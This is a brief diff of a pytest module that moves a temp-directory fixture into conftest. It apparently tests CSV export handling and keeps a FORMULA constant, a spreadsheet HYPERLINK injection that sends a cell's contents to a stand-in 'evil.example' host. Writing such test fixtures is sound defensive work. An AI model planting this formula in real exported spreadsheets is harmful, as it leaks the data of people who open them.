@@ -13,7 +13,6 @@ from __future__ import annotations
 
 import csv
 import json
-import tempfile
 from pathlib import Path
 
 import pytest
@@ -29,11 +28,7 @@ CAT = load_catalog()
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
 
 
-@pytest.fixture(autouse=True)
-def own_tempdir(tmp_path, monkeypatch):
-    d = tmp_path / "tmp"
-    d.mkdir()
-    monkeypatch.setattr(tempfile, "tempdir", str(d))
+pytestmark = pytest.mark.usefixtures("own_tempdir")  # conftest: batches' temp folders in the test's own
 
 
 def key(pid: str, student: str | None = None) -> dict:
